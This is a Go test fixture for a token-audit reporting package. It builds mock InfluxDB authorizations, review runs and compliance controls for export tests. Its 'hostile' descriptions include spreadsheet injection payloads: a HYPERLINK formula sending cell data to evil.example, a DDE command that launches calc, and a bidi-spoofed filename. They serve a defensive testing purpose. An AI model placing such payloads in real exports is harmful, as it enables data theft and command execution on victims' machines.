package report

import (
	"context"
	"errors"
	"fmt"
	"iter"
	"slices"
	"strings"
	"testing"
	"time"

	"tokenaudit/jobs/audit"
)

var (
	lastWeek = time.Date(2026, 11, 16, 8, 0, 0, 0, time.UTC)
	thisWeek = lastWeek.AddDate(0, 0, 7)
	began    = thisWeek.Add(3 * time.Second) // the time of the review
)

// hostile descriptions, by what is wrong with them.
func hostile() map[string]string {
	return map[string]string{
		"link":       `=HYPERLINK("http://evil.example/?"&A1,"open")`,
		"dde":        `=cmd|' /C calc'!A0`,
		"plus":       "+1+1",
		"minus":      "-1",
		"at":         "@SUM(A1)",
		"tab":        "\t=1+1",
		"space":      "  =1+1",
		"newline":    "\n=1+1",
		"return":     "\r=1+1",
		"lines":      "first, \"quoted\"\nsecond\r\nthird",
		"bidi":       "safe\u202egnp.exe",
		"zero":       "a\u200bb\x00c\x1bd",
		"escape":     "_x0041_",
		"overlap":    "_x0041_x0042_ _xD83D_ _x005F_x0041_",
		"markup":     "<b>&amp;]]></b>",
		"apostrophe": "'quoted'",
		"digits":     "0123456789",
		"emoji":      "🔑 clé 鍵",
		"padded":     " padded ",
		"long":       strings.Repeat("0123456789", 30_000),
		"empty":      "",
	}
}

func describe(name string) string { return hostile()[name] }

func names() []string {
	var ns []string
	for n := range hostile() {
		ns = append(ns, n)
	}
	slices.Sort(ns)
	return ns
}

func write(bucket string) audit.Permission {
	return audit.Permission{Action: "write", Resource: audit.Resource{Type: "buckets", ID: bucket, Name: "sensors", OrgID: "00000000000000aa", Org: "acme"}}
}

func authorization(n int, description string) audit.Authorization {
	created := thisWeek.AddDate(0, -n, 0).Add(time.Duration(n*1017) * time.Second)
	return audit.Authorization{
		ID: fmt.Sprintf("%016x", 0xa000+n), OrgID: "00000000000000aa", Org: "acme",
		UserID: fmt.Sprintf("%016x", 0xb0+n%4), User: fmt.Sprintf("user-%d", n%4),
		Description: description, Status: []audit.Status{audit.Active, audit.Active, audit.Inactive}[n%3],
		Permissions: []audit.Permission{{Action: "read", Resource: audit.Resource{Type: "buckets", ID: "00000000000000c1", Name: "sensors"}}, write("00000000000000c1")},
		CreatedAt:   created, UpdatedAt: created.Add(time.Hour),
	}
}

// population: a target whose authorizations have hostile descriptions, and one
// with an operator token, a nameless one, and some that the list lacks now.
func population() map[string][]audit.Authorization {
	var plant []audit.Authorization
	for i, name := range names() {
		plant = append(plant, authorization(i, describe(name)))
	}
	office := []audit.Authorization{authorization(40, "operator"), authorization(41, ""), authorization(42, "set aside"), authorization(43, "deleted since"), authorization(44, "hidden"), authorization(45, "cannot be asked"), authorization(46, "new here"), authorization(47, "repaired"), authorization(48, "of a deleted user")}
	office[0].Permissions = []audit.Permission{{Action: "write", Resource: audit.Resource{Type: "buckets"}}}
	office[1].Org, office[1].User, office[1].CreatedAt, office[1].UpdatedAt = "", "", time.Time{}, time.Time{}
	office[8].UserID = "00000000000000dd"
	return map[string][]audit.Authorization{"plant": plant, "office": office}
}

// review gives the records of this week and their summary, made by the audit
// itself from last week's.
func review(t testing.TB) ([]audit.Record, audit.Summary) {
	var all []audit.Record
	var items []audit.Item
	for _, target := range []string{"plant", "office"} {
		now := population()[target]
		before := merge(t, target, lastWeek, now, nil)
		if target == "office" {
			now = thisOffice(now)
			before = slices.DeleteFunc(before, func(r audit.Record) bool { return r.Description == "new here" })
		}
		records := merge(t, target, began, now, before)
		all, items = append(all, records...), append(items, item(target, records))
	}
	run := audit.Run{Job: "weekly-review", Slot: thisWeek, Trigger: audit.Scheduled, Missed: 1, Started: began}
	tool := audit.Tool{Name: "tokenaudit", Version: "1.0.0", Build: "abc123 go1.26"}
	previous := &audit.Previous{ID: "weekly-review/2026-11-16T0800Z", Slot: lastWeek, BySeverity: map[audit.Severity]int{audit.Critical: 3, audit.Medium: 40, audit.Low: 4}}
	return all, audit.Summarize(run, items, thisWeek.Add(time.Minute), tool, audit.Policy{}, previous)
}

// thisOffice lacks three authorizations of last week, and one may no longer write.
func thisOffice(as []audit.Authorization) []audit.Authorization {
	as = slices.DeleteFunc(slices.Clone(as), func(a audit.Authorization) bool {
		return a.Description == "deleted since" || a.Description == "hidden" || a.Description == "cannot be asked"
	})
	for i := range as {
		if as[i].Description == "repaired" {
			as[i].Status = audit.Inactive
		}
	}
	return as
}

func merge(t testing.TB, target string, at time.Time, now []audit.Authorization, before []audit.Record) []audit.Record {
	rv := audit.Review{
		Target: target, Now: at, Policy: audit.Policy{RotateAfter: 365 * 24 * time.Hour, InactiveAfter: 90 * 24 * time.Hour},
		Owner: owner, Probe: probe,
	}
	var out []audit.Record
	for r, err := range rv.Merge(t.Context(), values(now), values(before)) {
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, r)
	}
	return out
}

func owner(_ context.Context, a audit.Authorization) audit.Owner {
	o := audit.Owner{ID: a.UserID, Name: a.User, State: audit.OwnerPresent, MembershipKnown: true, Evidence: "listed by GET /api/v2/users"}
	if a.UserID == "00000000000000dd" {
		o.State, o.Evidence = audit.OwnerDeleted, "GET /api/v2/users/00000000000000dd: 404 user not found"
	}
	return o
}

func probe(_ context.Context, a audit.Authorization) audit.Probe {
	switch a.ID {
	case authorization(43, "").ID:
		return audit.Probe{Presence: audit.Gone, Evidence: "GET /api/v2/authorizations/" + a.ID + ": 404 authorization not found"}
	case authorization(44, "").ID:
		return audit.Probe{Presence: audit.Hidden, Evidence: "GET /api/v2/authorizations/" + a.ID + ": 404 user not found", Owner: &audit.Owner{ID: "00000000000000b0", State: audit.OwnerDeleted, Evidence: "GET by ID: user not found"}}
	}
	return audit.Probe{Presence: audit.Unseen}
}

func item(target string, records []audit.Record) audit.Item {
	cov, counts := audit.NewCoverage(target), audit.NewCounts()
	cov.Server = "InfluxDB 2.7.12"
	for _, r := range records {
		cov.Met(r)
		counts.Add(r, began)
	}
	cov.Asked = []audit.Asked{
		{What: "authorizations of org acme", Request: "GET /api/v2/authorizations?orgID=00000000000000aa", Status: 200, Rows: len(records), Verdict: audit.Complete},
		{What: "user user-1", Request: "GET /api/v2/users?name=user-1", Status: 401, Verdict: audit.NotKnown, Reason: "unauthorized: the credential may not read users"},
		{What: "members of org acme", Request: "GET /api/v2/orgs/00000000000000aa/members", Verdict: audit.NotKnown, Reason: "no answer within 30s"},
	}
	return audit.Item{Coverage: cov, Counts: counts}
}

func values[T any](vs []T) iter.Seq2[T, error] {
	return func(yield func(T, error) bool) {
		for _, v := range vs {
			if !yield(v, nil) {
				return
			}
		}
	}
}

func input(t testing.TB) Input {
	records, summary := review(t)
	return Input{
		Summary: summary, Rows: func() iter.Seq2[audit.Record, error] { return values(records) },
		Trend: weeksBefore(), Controls: someControls(), Config: "jobs:\n  - name: weekly-review\n    schedule: \"0 8 * * 1\"\n=1+1: not a formula\n",
	}
}

// weeksBefore: three weeks, in one of which not everything was seen.
func weeksBefore() []audit.TrendPoint {
	point := func(weeks int, v audit.Verdict, critical, medium, low int) audit.TrendPoint {
		run := audit.Run{Job: "weekly-review", Slot: thisWeek.AddDate(0, 0, -7*weeks)}
		by := map[audit.Severity]int{audit.Critical: critical, audit.High: 0, audit.Medium: medium, audit.Low: low}
		return audit.TrendPoint{Run: run.ID(), Slot: run.Slot, Verdict: v, Authorizations: 30, BySeverity: by}
	}
	return []audit.TrendPoint{point(3, audit.Complete, 5, 44, 2), point(2, audit.Partial, 4, 41, 6), point(1, audit.Complete, 3, 40, 4)}
}

func someControls() audit.Controls {
	return audit.Controls{
		"active-write": {
			{Framework: "PCI DSS", Version: "4.0.1", ID: "7.2.5.1", Title: "Access of application and system accounts is reviewed", Strength: "direct", Source: "PCI SSC document library"},
			{Framework: "NIST 800-53", Version: "r5", ID: "AC-6(7)", Title: "Privileges are reviewed", Strength: "direct", Source: "csrc.nist.gov"},
		},
		"deleted-owner": {{Framework: "NIST 800-53", Version: "r5", ID: "AC-2", Title: "=1+1 accounts", Strength: "supporting", Source: "csrc.nist.gov"}},
	}
}

// nothing is the input of a review without targets.
func nothing() Input {
	run := audit.Run{Job: "empty", Slot: thisWeek, Trigger: audit.Manual, Started: thisWeek}
	return Input{
		Summary: audit.Summarize(run, nil, thisWeek, audit.Tool{Name: "tokenaudit"}, audit.Policy{}, nil),
		Rows:    func() iter.Seq2[audit.Record, error] { return values[audit.Record](nil) },
	}
}

var errBroken = errors.New("snapshot is broken")

// broken breaks off after some records, in every walk from the given one on.
func broken(in Input, from int) Input {
	rows, walks := in.Rows, 0
	in.Rows = func() iter.Seq2[audit.Record, error] {
		walks++
		if walks < from {
			return rows()
		}
		return func(yield func(audit.Record, error) bool) {
			for r := range rows() {
				if !yield(r, nil) {
					return
				}
				break
			}
			yield(audit.Record{}, errBroken)
		}
	}
	return in
}
